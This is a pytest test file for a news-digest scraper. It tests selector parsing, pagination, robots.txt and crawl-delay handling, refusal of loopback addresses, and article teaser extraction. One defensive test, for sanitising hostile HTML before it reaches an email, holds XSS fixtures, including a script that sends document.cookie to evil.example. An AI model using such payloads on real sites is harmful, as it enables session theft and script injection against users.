"""Listing pages (kind = "html"), article teasers and the manners of fetching them.

Everything is fetched from real local HTTP servers (port 0). The test server listens on
127.0.0.1, so sources that are not about the private-address rule allow it explicitly;
the tests of that rule use the stand-in public server of test_sources_addresses.
"""

from __future__ import annotations

import dataclasses
import re
import threading
import time
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler
from zoneinfo import ZoneInfo

import pytest

from digest.config import SelectorSettings, Settings, SourceSettings, parse_settings
from digest.core.errors import ConfigError, SourceError
from digest.sources import FetchResult, FetchState, Guest, fetch_any, new_http_client
from digest.sources.article import teaser_from_page
from digest.sources.dates import find_date
from tests.core.test_output_safety import deliver, message_dangers, reader
from tests.sources.test_sources_addresses import public  # noqa: F401 (a fixture)
from tests.sources.test_sources_feed import NEWSLETTER, FeedServer, item, respond, rss

NOW = datetime(2025, 2, 3, 6, 0, tzinfo=UTC)
BERLIN = ZoneInfo("Europe/Berlin")
SELECTORS = SelectorSettings(
    item="div.news",
    title="h3",
    date=".date",
    teaser="p.teaser",
    image="img",
    label=".label",
    category=".rubrik",
    exclude=".date, a.more",
    next="a.next",
)


def listing_source(url: str, selectors: SelectorSettings = SELECTORS, **kwargs: object):
    kwargs.setdefault("allow_private", True)  # the test server listens on 127.0.0.1
    kwargs.setdefault("default_category", "politik")
    return SourceSettings(
        name="Land",
        url=url,
        kind="html",
        selectors=selectors,
        **kwargs,  # type: ignore[arg-type]
    )


def news(
    title: str = "Bayern: Ein Titel",
    href: str = "/meldungen/1",
    date: str = "[28.01.2025]",
    teaser: str = "Ein kurzer Text.",
    extra: str = "",
) -> str:
    link = f'<a href="{href}">{title}</a>' if href else title
    return (
        f'<div class="news">{extra}<h3>{link}</h3><p class="teaser"><span class="date">{date}'
        f'</span> {teaser} <a class="more" href="{href}">mehr...</a></p></div>'
    )


def page(*items: str, next_href: str = "") -> bytes:
    more = f'<a class="next" href="{next_href}">ältere Meldungen</a>' if next_href else ""
    body = f"<html><body><main>{''.join(items)}</main>{more}</body></html>"
    return body.encode()


def html_route(body: bytes, **headers: str):
    return respond(body, content_type="text/html; charset=utf-8", **headers)


async def collect(
    source: SourceSettings,
    state: FetchState | None = None,
    guest: Guest | None = None,
    now: datetime = NOW,
) -> FetchResult:
    async with new_http_client() as client:
        return await fetch_any(
            source,
            NEWSLETTER,
            state,
            client=client,
            base_dir=__import__("pathlib").Path("."),
            guest=guest or Guest(),
            now=now,
        )


def paths(server: FeedServer) -> list[str]:
    return [path for path, _ in server.requests]


# --- selectors, links, dates -----------------------------------------------------------------


async def test_selectors_read_every_part_and_resolve_relative_links(server: FeedServer) -> None:
    server.routes["/land/aktuell/"] = html_route(
        page(
            news(
                "Bayern: Einheitlicher IT-Dienstleister",
                href="../../meldungen/it-dienstleister",
                teaser="Die Kommunen <b>bündeln</b> ihre IT.",
                extra='<img src="bilder/it.jpg" alt="Ein Rechenzentrum"><span class="label">'
                'Interview</span><span class="rubrik">OZG</span>',
            ),
            news("Ohne Region: Zweite Meldung", href="/meldungen/2", date="24.01.2025"),
        )
    )
    result = await collect(listing_source(f"{server.url}/land/aktuell/"))
    first, second = result.articles
    assert first.title == "Bayern: Einheitlicher IT-Dienstleister"
    assert first.link == first.uid == f"{server.url}/meldungen/it-dienstleister"
    assert first.region == "Bayern"
    assert first.label == "Interview"
    assert first.category == "verwaltung"  # "OZG" through the newsletter's category_map
    assert first.image is not None
    assert first.image.url == f"{server.url}/land/aktuell/bilder/it.jpg"
    assert first.image.alt == "Ein Rechenzentrum"
    assert first.summary == "Die Kommunen bündeln ihre IT."  # date and "mehr..." left out
    assert first.published == datetime(2025, 1, 28, tzinfo=BERLIN)
    assert second.region is None and second.category == "politik" and second.image is None
    assert second.published == datetime(2025, 1, 24, tzinfo=BERLIN)
    assert "the label selector" not in " ".join(result.warnings)


PLACEHOLDER = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"


async def test_lazy_images_read_more_links_and_wrappers(server: FeedServer) -> None:
    # No exclude for the read-more links: they are left out of every teaser anyway.
    selectors = dataclasses.replace(SELECTORS, exclude=".date")
    lazy = [
        f'<img src="{PLACEHOLDER}" data-src="bilder/eins.jpg">',
        '<img data-lazy-src="/bilder/zwei.jpg" src="data:image/svg+xml,%3Csvg%3E%3C/svg%3E">',
        '<img srcset="/bilder/drei-640.jpg 640w, /bilder/drei-1280.jpg 1280w">',
    ]
    more = ["Weiterlesen →", "Mehr erfahren", "[mehr…]"]
    items = [
        news(f"Meldung {n}", href=f"/meldungen/{n}", teaser=f"Text {n}.", extra=lazy[n]).replace(
            "mehr...", more[n]
        )
        for n in range(3)
    ]
    # A box of two items with the item's class is a wrapper, no item of its own.
    box = f'<div class="news">{items[1]}{items[2]}</div>'
    server.routes["/land/"] = html_route(page(items[0], box))
    result = await collect(listing_source(f"{server.url}/land/", selectors))
    assert [a.title for a in result.articles] == ["Meldung 0", "Meldung 1", "Meldung 2"]
    assert [a.summary for a in result.articles] == ["Text 0.", "Text 1.", "Text 2."]
    assert [a.image.url if a.image else None for a in result.articles] == [
        f"{server.url}/land/bilder/eins.jpg",
        f"{server.url}/bilder/zwei.jpg",
        f"{server.url}/bilder/drei-640.jpg",
    ]


@pytest.mark.parametrize(
    ("text", "date_format", "expected"),
    [
        ("[28.01.2025] Im Frühjahr startet", "", datetime(2025, 1, 28, tzinfo=BERLIN)),
        ("Donnerstag, 30. Januar 2025", "", datetime(2025, 1, 30, tzinfo=BERLIN)),
        ("3. März 2025, 14:30 Uhr", "", datetime(2025, 3, 3, 14, 30, tzinfo=BERLIN)),
        ("2025-01-30T10:00:00+01:00", "", datetime(2025, 1, 30, 9, 0, tzinfo=UTC)),
        ("2025-07-01", "", datetime(2025, 7, 1, tzinfo=BERLIN)),  # summer time
        ("January 5, 2025", "", datetime(2025, 1, 5, tzinfo=BERLIN)),
        ("30. Januar 2025", "%d. %B %Y", datetime(2025, 1, 30, tzinfo=BERLIN)),
        ("[28.01.2025]", "[%d.%m.%Y]", datetime(2025, 1, 28, tzinfo=BERLIN)),
        ("01/28/2025", "%m/%d/%Y", datetime(2025, 1, 28, tzinfo=BERLIN)),
    ],
)
def test_date_formats(text: str, date_format: str, expected: datetime) -> None:
    found = find_date(text, BERLIN, date_format)
    assert found is not None and found.when == expected and found.when.tzinfo == UTC


@pytest.mark.parametrize(
    ("text", "date_format"),
    [("kein Datum", ""), ("31.02.2025", ""), ("28.01.2025", "%Y-%m-%d"), ("", "")],
)
def test_text_without_a_date(text: str, date_format: str) -> None:
    assert find_date(text, BERLIN, date_format) is None


async def test_time_element_datetime_attribute(server: FeedServer) -> None:
    selectors = dataclasses.replace(SELECTORS, date="time")
    server.routes["/"] = html_route(
        page(news(extra='<time datetime="2025-01-29T08:30:00Z">Mittwoch</time>'))
    )
    [article] = (await collect(listing_source(f"{server.url}/", selectors))).articles
    assert article.published == datetime(2025, 1, 29, 8, 30, tzinfo=UTC)


# --- pagination --------------------------------------------------------------------------------


async def test_next_links_are_followed_up_to_the_page_limit(server: FeedServer) -> None:
    server.routes["/p1"] = html_route(page(news(href="/a/1"), next_href="/p2"))
    server.routes["/p2"] = html_route(page(news(href="/a/2"), next_href="p3"))
    server.routes["/p3"] = html_route(page(news(href="/a/3"), next_href="/p4"))
    result = await collect(listing_source(f"{server.url}/p1", max_pages=3))
    assert [a.link for a in result.articles] == [f"{server.url}/a/{n}" for n in (1, 2, 3)]
    assert paths(server) == ["/robots.txt", "/p1", "/p2", "/p3"]


async def test_pages_stop_where_items_are_older_than_max_age(server: FeedServer) -> None:
    server.routes["/p1"] = html_route(
        page(
            news(href="/a/1", date="[01.02.2025]"),
            news(href="/a/2", date="[10.01.2025]"),
            next_href="/p2",
        )
    )
    server.routes["/p2"] = html_route(page(news(href="/a/3"), next_href="/p3"))
    result = await collect(listing_source(f"{server.url}/p1", max_age_days=14))
    assert len(result.articles) == 2
    assert "/p2" not in paths(server)


async def test_a_page_that_links_to_itself_is_read_once(server: FeedServer) -> None:
    server.routes["/p1"] = html_route(page(news(), next_href="/p1"))
    result = await collect(listing_source(f"{server.url}/p1"))
    assert len(result.articles) == 1 and paths(server).count("/p1") == 1


async def test_a_failing_next_page_is_a_warning(server: FeedServer) -> None:
    server.routes["/p1"] = html_route(page(news(), next_href="/fehlt"))
    result = await collect(listing_source(f"{server.url}/p1"))
    assert len(result.articles) == 1
    assert result.warnings[-1] == f"page 2 not read: HTTP 404 Not Found from {server.url}/fehlt"


async def test_conditional_get_on_the_first_page(server: FeedServer) -> None:
    def conditional(handler: BaseHTTPRequestHandler) -> None:
        if handler.headers.get("If-None-Match") == '"v1"':
            respond(b"", status=304, ETag='"v1"')(handler)
        else:
            html_route(page(news()), ETag='"v1"')(handler)

    server.routes["/p1"] = conditional
    first = await collect(listing_source(f"{server.url}/p1"))
    assert first.state.etag == '"v1"' and len(first.articles) == 1
    second = await collect(listing_source(f"{server.url}/p1"), first.state)
    assert second.not_modified and second.articles == ()


# --- a changed layout ---------------------------------------------------------------------------


async def test_item_selector_finding_nothing_fails_the_source(server: FeedServer) -> None:
    server.routes["/"] = html_route(b"<html><body><ul><li>Neues Layout</li></ul></body></html>")
    with pytest.raises(SourceError) as caught:
        await collect(listing_source(f"{server.url}/"))
    assert caught.value.source == "Land"
    assert "the item selector 'div.news' found nothing" in caught.value.reason


async def test_items_without_title_or_link_are_warnings_naming_the_selector(
    server: FeedServer,
) -> None:
    server.routes["/"] = html_route(
        page(news(), news(href=""), news(title=""), news(href="javascript:alert(1)"))
    )
    selectors = dataclasses.replace(SELECTORS, teaser="p.anreisser")
    result = await collect(listing_source(f"{server.url}/", selectors))
    assert len(result.articles) == 1
    warnings = "\n".join(result.warnings)
    assert "2 items without a link (selector 'a[href]') skipped" in warnings
    assert "1 item without a title (selector 'h3') skipped" in warnings
    assert "the teaser selector 'p.anreisser' found nothing in 4 items" in warnings


async def test_items_all_unusable_fail_the_source(server: FeedServer) -> None:
    server.routes["/"] = html_route(page(news(date="bald"), news(date="demnächst")))
    with pytest.raises(SourceError, match="none of the 2 items .* has a title, link and date"):
        await collect(listing_source(f"{server.url}/"))


# --- hostile HTML -------------------------------------------------------------------------------


async def test_hostile_html_never_reaches_the_email(
    server: FeedServer, demo_settings: Settings
) -> None:
    hostile = page(
        "<script>document.location='https://evil.example/'+document.cookie</script>",
        news(
            "Bayern: &lt;img src=x onerror=alert(1)&gt; <i onclick='alert(2)'>Titel</i>",
            href="/meldungen/1",
            teaser="<img src=x onerror=alert(3)><script>alert(4)</script>"
            "<a href='javascript:alert(5)'>klick</a> <svg onload=alert(6)></svg>Text",
            extra='<img src="javascript:alert(7)" alt="x" onerror="alert(8)">'
            '<span class="label"><script>alert(9)</script>Exklusiv</span>',
        ),
        news("Hessen: Harmlos", href="javascript:alert(10)"),
        news("Sachsen: Daten-URL", href="data:text/html,<script>alert(11)</script>"),
    )
    server.routes["/"] = html_route(hostile)
    newsletter = demo_settings.newsletters[0]
    source = listing_source(f"{server.url}/", default_category=newsletter.categories[0].key)
    async with new_http_client() as client:
        result = await fetch_any(
            source,
            newsletter,
            None,
            client=client,
            base_dir=demo_settings.base_dir,
            guest=Guest(),
            now=NOW,
        )
    [article] = result.articles  # the javascript: and data: links were skipped
    assert article.image is None
    delivered = deliver(demo_settings, newsletter, list(result.articles), reader(), "m1@x")
    assert message_dangers(delivered, plain_text_verbatim=True) == []
    for needle in ("alert(", "onerror", "onclick", "javascript:"):
        assert needle not in delivered.html.replace("&lt;img src=x onerror=alert(1)&gt;", "")


# --- being a good guest -----------------------------------------------------------------------


async def test_robots_txt_disallow_refuses_the_page(server: FeedServer) -> None:
    server.routes["/robots.txt"] = respond(
        b"User-agent: *\nAllow: /\n\nUser-agent: digest\nDisallow: /land/\n",
        content_type="text/plain",
    )
    server.routes["/land/"] = html_route(page(news()))
    with pytest.raises(SourceError, match="robots.txt of .* does not allow .*/land/"):
        await collect(listing_source(f"{server.url}/land/"))
    assert paths(server) == ["/robots.txt"]


async def test_robots_txt_for_other_agents_allows_the_page(server: FeedServer) -> None:
    server.routes["/robots.txt"] = respond(
        b"User-agent: OtherBot\nDisallow: /\n", content_type="text/plain"
    )
    server.routes["/land/"] = html_route(page(news()))
    assert len((await collect(listing_source(f"{server.url}/land/"))).articles) == 1


async def test_robots_txt_follows_the_configured_user_agent(server: FeedServer) -> None:
    server.routes["/robots.txt"] = respond(
        b"User-agent: Kommunalbot\nDisallow: /\n", content_type="text/plain"
    )
    server.routes["/land/"] = html_route(page(news()))
    assert len((await collect(listing_source(f"{server.url}/land/"))).articles) == 1
    with pytest.raises(SourceError, match="does not allow"):
        await collect(listing_source(f"{server.url}/land/"), guest=Guest("Kommunalbot/2.0"))


async def test_a_robots_txt_over_500_kib_is_read_for_its_first_500_kib(
    server: FeedServer,
) -> None:
    from digest.sources.robots import ROBOTS_MAX_BYTES

    start = b"User-agent: digest\nDisallow: /land/\n"
    filler = b"# " + b"x" * 97 + b"\n"
    body = start + filler * (ROBOTS_MAX_BYTES // len(filler)) + b"Disallow: /spaet/\n"
    assert len(body) > ROBOTS_MAX_BYTES > len(body) - len(b"Disallow: /spaet/\n") - 100
    server.routes["/robots.txt"] = respond(body, content_type="text/plain")
    server.routes["/land/"] = html_route(page(news()))
    server.routes["/spaet/"] = html_route(page(news()))
    guest = Guest()
    with pytest.raises(SourceError, match="robots.txt of .* does not allow .*/land/"):
        await collect(listing_source(f"{server.url}/land/"), guest=guest)
    # The rule beyond the first 500 KiB is not read.
    assert len((await collect(listing_source(f"{server.url}/spaet/"), guest=guest)).articles) == 1
    assert paths(server) == ["/robots.txt", "/spaet/"]


async def test_unreachable_robots_txt_refuses_everything(server: FeedServer) -> None:
    server.routes["/robots.txt"] = respond(b"", status=503, content_type="text/plain")
    server.routes["/land/"] = html_route(page(news()))
    with pytest.raises(SourceError, match="robots.txt .* unavailable .*HTTP 503"):
        await collect(listing_source(f"{server.url}/land/"))
    assert "/land/" not in paths(server)


async def test_a_redirect_to_another_site_follows_that_sites_robots_txt(
    server: FeedServer,
) -> None:
    with FeedServer() as other:  # another port: another origin
        server.routes["/land/"] = respond(
            b"", status=302, content_type="text/plain", Location=f"{other.url}/land/"
        )
        other.routes["/robots.txt"] = respond(
            b"User-agent: digest\nDisallow: /land/\n", content_type="text/plain"
        )
        other.routes["/land/"] = html_route(page(news()))
        with pytest.raises(
            SourceError, match=f"robots.txt of {other.url} does not allow {other.url}/land/"
        ):
            await collect(listing_source(f"{server.url}/land/"))
        assert paths(server) == ["/robots.txt", "/land/"]
        assert paths(other) == ["/robots.txt"]

        # Allowed there, the page is read; each site's robots.txt is fetched once a run.
        other.routes["/robots.txt"] = respond(
            b"User-agent: digest\nDisallow: /intern/\n", content_type="text/plain"
        )
        guest = Guest()
        result = await collect(listing_source(f"{server.url}/land/"), guest=guest)
        assert [a.title for a in result.articles] == ["Bayern: Ein Titel"]
        await collect(listing_source(f"{server.url}/land/"), guest=guest)
        assert paths(other)[1:] == ["/robots.txt", "/land/", "/land/"]


async def test_a_redirect_within_a_site_follows_its_robots_txt(server: FeedServer) -> None:
    server.routes["/robots.txt"] = respond(
        b"User-agent: *\nDisallow: /intern/\n", content_type="text/plain"
    )
    server.routes["/land/"] = respond(
        b"", status=301, content_type="text/plain", Location="/intern/land/"
    )
    server.routes["/intern/land/"] = html_route(page(news()))
    with pytest.raises(SourceError, match="does not allow .*/intern/land/"):
        await collect(listing_source(f"{server.url}/land/"))
    assert paths(server) == ["/robots.txt", "/land/"]


def timed_route(body: bytes, times: list[tuple[str, float, float]]):
    """A route that notes when each request came in and when its answer was sent."""
    answer = html_route(body)

    def route(handler: BaseHTTPRequestHandler) -> None:
        start = time.monotonic()
        answer(handler)
        times.append((handler.path, start, time.monotonic()))

    return route


async def test_crawl_delay_spaces_the_requests_to_a_site(server: FeedServer) -> None:
    server.routes["/robots.txt"] = respond(
        b"User-agent: OtherBot\nCrawl-delay: 30\n\nUser-agent: digest\nCrawl-delay: 1\n",
        content_type="text/plain",
    )
    times: list[tuple[str, float, float]] = []
    server.routes["/p1"] = timed_route(page(news(href="/a/1"), next_href="/p2"), times)
    server.routes["/p2"] = timed_route(page(news(href="/a/2"), next_href="/p3"), times)
    server.routes["/p3"] = timed_route(page(news(href="/a/3")), times)
    result = await collect(listing_source(f"{server.url}/p1"))  # host_delay 0
    assert len(result.articles) == 3
    assert [path for path, _start, _end in times] == ["/p1", "/p2", "/p3"]
    gaps = [later[1] - earlier[2] for earlier, later in zip(times, times[1:], strict=False)]
    assert min(gaps) >= 0.95  # 1 s less the server's own clock slack


async def test_one_request_at_a_time_per_host_with_a_delay(server: FeedServer) -> None:
    active = 0
    most = 0
    times: list[tuple[float, float]] = []
    lock = threading.Lock()

    def slow(handler: BaseHTTPRequestHandler) -> None:
        nonlocal active, most
        with lock:
            active += 1
            most = max(most, active)
        start = time.monotonic()
        time.sleep(0.05)
        html_route(page(news(href=handler.path + "/a")))(handler)
        with lock:
            active -= 1
        times.append((start, time.monotonic()))

    for n in range(4):
        server.routes[f"/s{n}"] = slow
    guest = Guest(delay=0.2)
    import asyncio

    await asyncio.gather(
        *(collect(listing_source(f"{server.url}/s{n}"), guest=guest) for n in range(4))
    )
    assert most == 1
    times.sort()
    gaps = [later[0] - earlier[1] for earlier, later in zip(times, times[1:], strict=False)]
    assert len(gaps) == 3 and min(gaps) >= 0.15  # 0.2 s less the server's own clock slack


# --- the private-address rule -------------------------------------------------------------------


async def test_listing_page_on_loopback_is_refused(server: FeedServer) -> None:
    server.routes["/land/"] = html_route(page(news()))
    with pytest.raises(SourceError, match="127.0.0.1 is a loopback address"):
        await collect(listing_source(f"{server.url}/land/", allow_private=False))
    assert server.requests == []


async def test_listing_page_redirect_to_loopback_is_refused(
    public: FeedServer,  # noqa: F811
    server: FeedServer,
) -> None:
    target = f"http://127.0.0.1:{server.port}/land/"
    server.routes["/land/"] = html_route(page(news()))
    public.routes["/land/"] = respond(b"", status=302, content_type="text/plain", Location=target)
    with pytest.raises(SourceError, match=f"refused to fetch {target}: .* loopback"):
        await collect(listing_source(f"{public.url}/land/", allow_private=False))
    assert server.requests == []


async def test_article_page_on_loopback_is_refused(
    public: FeedServer,  # noqa: F811
    server: FeedServer,
) -> None:
    server.routes["/artikel"] = html_route(b'<meta name="description" content="Geheim">')
    public.routes["/land/"] = html_route(
        page(news(href=f"http://127.0.0.1:{server.port}/artikel", teaser=""))
    )
    selectors = dataclasses.replace(SELECTORS, teaser="")
    source = listing_source(
        f"{public.url}/land/", selectors, allow_private=False, fetch_articles=True
    )
    result = await collect(source)
    [article] = result.articles
    assert article.summary == ""
    [note] = [w for w in result.warnings if "article page" in w]
    assert note.startswith("1 article page gave no teaser (first: ")
    assert "127.0.0.1 is a loopback address" in note and server.requests == []


# --- teasers from article pages -----------------------------------------------------------------


OG = "Der Kreistag stellt sein Bürgerportal auf eine gemeinsame Plattform um."
META = "Ab März beantragen Bürgerinnen und Bürger Parkausweise vollständig online."


def test_teaser_from_description_open_graph_json_ld_and_main_text() -> None:
    og = f'<head><meta property="og:description" content="{OG}"></head>'.encode()
    assert teaser_from_page(og) == OG
    both = (
        f'<meta name="description" content="{META}"><meta property="og:description" content="{OG}">'
    ).encode()
    assert teaser_from_page(both) == META
    ld = (
        '<script type="application/ld+json">{"@context": "https://schema.org", "@graph": '
        '[{"@type": "NewsArticle", "description": "Bund &amp; Länder einigen sich auf '
        'gemeinsame Standards für Registerdaten."}]}</script>'
    ).encode()
    assert teaser_from_page(ld) == (
        "Bund & Länder einigen sich auf gemeinsame Standards für Registerdaten."
    )
    sentence = "Der Kreistag hat das neue Bürgerportal einstimmig beschlossen. "
    body = (
        "<html><body><nav><a href='/'>Start</a></nav><article><h1>Titel</h1>"
        f"<p>{sentence * 8}</p><p>{sentence * 4}</p></article>"
        "<footer>Impressum</footer></body></html>"
    ).encode()
    assert teaser_from_page(body).startswith("Der Kreistag hat das neue Bürgerportal")
    assert teaser_from_page(body, limit=300) == (sentence * 4).strip()
    assert teaser_from_page(b"<html><body></body></html>") == ""


async def test_fetch_articles_fills_missing_teasers_for_feeds_and_pages(
    server: FeedServer,
) -> None:
    server.routes["/artikel/1"] = html_route(
        b'<head><meta property="og:description" content="Der Teaser <b>von der</b> Seite, '
        b'aus ihrer Beschreibung &amp;uuml;bernommen."></head>'
    )
    server.routes["/feed.xml"] = respond(
        rss(
            item(title="Mit Text", link="/artikel/0", extra="<description>Da.</description>"),
            item(title="Ohne Text", link="/artikel/1"),
        ).encode()
    )
    source = SourceSettings(
        name="Feed",
        url=f"{server.url}/feed.xml",
        default_category="politik",
        allow_private=True,
        fetch_articles=True,
    )
    with_text, without = (await collect(source)).articles
    assert with_text.summary == "Da."
    assert without.summary == "Der Teaser von der Seite, aus ihrer Beschreibung übernommen."
    assert "/artikel/0" not in paths(server)

    server.routes["/land/"] = html_route(page(news(href="/artikel/1", teaser="")))
    selectors = dataclasses.replace(SELECTORS, teaser="")
    [article] = (
        await collect(listing_source(f"{server.url}/land/", selectors, fetch_articles=True))
    ).articles
    assert article.summary == without.summary


def slow_route(body: bytes, seconds: float):
    answer = html_route(body)

    def route(handler: BaseHTTPRequestHandler) -> None:
        time.sleep(seconds)
        answer(handler)

    return route


def teaser_text(n: int) -> str:
    return f"Meldung {n} des Landes beschreibt, was sich im Verfahren geändert hat."


async def test_slow_article_pages_end_at_the_sources_time_limit(server: FeedServer) -> None:
    # Each article page answers well within `timeout`, but twelve of them take longer
    # than the source may take as a whole (3 x timeout): the rest are left out.
    count = 12
    for n in range(1, count + 1):
        description = f'<meta name="description" content="{teaser_text(n)}">'.encode()
        server.routes[f"/artikel/{n}"] = slow_route(description, 0.5)
    server.routes["/land/"] = html_route(
        page(*(news(title=f"Meldung {n}", href=f"/artikel/{n}", teaser="") for n in range(1, 13)))
    )
    selectors = dataclasses.replace(SELECTORS, teaser="")
    source = listing_source(f"{server.url}/land/", selectors, fetch_articles=True, timeout=1)
    assert source.time_limit == 3

    result = await collect(source)

    assert [a.title for a in result.articles] == [f"Meldung {n}" for n in range(1, 13)]
    [note] = [w for w in result.warnings if "ran out" in w]
    match = re.fullmatch(
        r"the source's time \(3 s\) ran out with (\d+) article pages? not read; "
        r"their teasers stay empty",
        note,
    )
    assert match, note
    left = int(match[1])
    assert 0 < left < count
    summaries = [a.summary for a in result.articles]
    assert summaries[-left:] == [""] * left
    read = count - left
    assert summaries[:read] == [teaser_text(n) for n in range(1, read + 1)]
    # Nothing is asked for after the time ran out (the page it cut off was asked for).
    asked = [path for path in paths(server) if path.startswith("/artikel/")]
    assert asked == [f"/artikel/{n}" for n in range(1, len(asked) + 1)]
    assert len(asked) <= read + 1


async def test_next_pages_end_at_the_sources_time_limit(server: FeedServer) -> None:
    # Each next page answers within `timeout`; seven of them take longer than 3 x timeout.
    server.routes["/land/"] = html_route(page(news(), next_href="/land/2"))
    for n in range(2, 9):
        body = page(news(href=f"/meldungen/{n}"), next_href=f"/land/{n + 1}")
        server.routes[f"/land/{n}"] = slow_route(body, 0.8)
    source = listing_source(f"{server.url}/land/", max_pages=8, timeout=1)
    result = await collect(source)
    links = [a.link for a in result.articles]
    assert links[0].endswith("/meldungen/1") and 2 <= len(links) < 8
    [note] = [w for w in result.warnings if "ran out" in w]
    assert note == f"page {len(links) + 1} not read: the source's time (3 s) ran out"


# --- configuration ------------------------------------------------------------------------------


def _with_source(demo: dict, **changes: object) -> dict:
    newsletter = demo["newsletters"][0]
    newsletter["sources"] = [
        {"name": "Seite", "url": "https://example.org/", "default_category": "politik", **changes}
    ]
    return demo


@pytest.mark.parametrize(
    ("changes", "problem"),
    [
        ({"kind": "html"}, "selectors: is required with kind = 'html'"),
        ({"selectors": {"item": "li", "title": "a"}}, "selectors: is only read with kind"),
        ({"kind": "html", "selectors": {"item": "li"}}, "selectors.title: is required"),
        (
            {"kind": "html", "selectors": {"item": "li[", "title": "a"}},
            "selectors.item: is not a CSS selector",
        ),
        ({"kind": "rss"}, "kind: must be one of"),
        ({"kind": "html", "date_format": "dd.mm.yyyy"}, "date_format: must be a strptime"),
    ],
)
def test_config_errors_name_the_key(changes: dict, problem: str) -> None:
    from tests.config.test_config import demo

    with pytest.raises(ConfigError) as caught:
        parse_settings(_with_source(demo(), **changes), environ={})
    assert problem in str(caught.value)


def test_shipped_config_has_a_listing_source() -> None:
    from tests.config.test_config import demo

    settings = parse_settings(demo(), environ={})
    [listing] = [s for s in settings.newsletters[0].sources if s.kind == "html"]
    assert listing.selectors is not None and listing.selectors.item == "article.meldung"
    assert settings.host_delay == 1.0 and settings.user_agent.startswith("digest/")


@pytest.fixture
def server():
    with FeedServer() as running:
        yield running
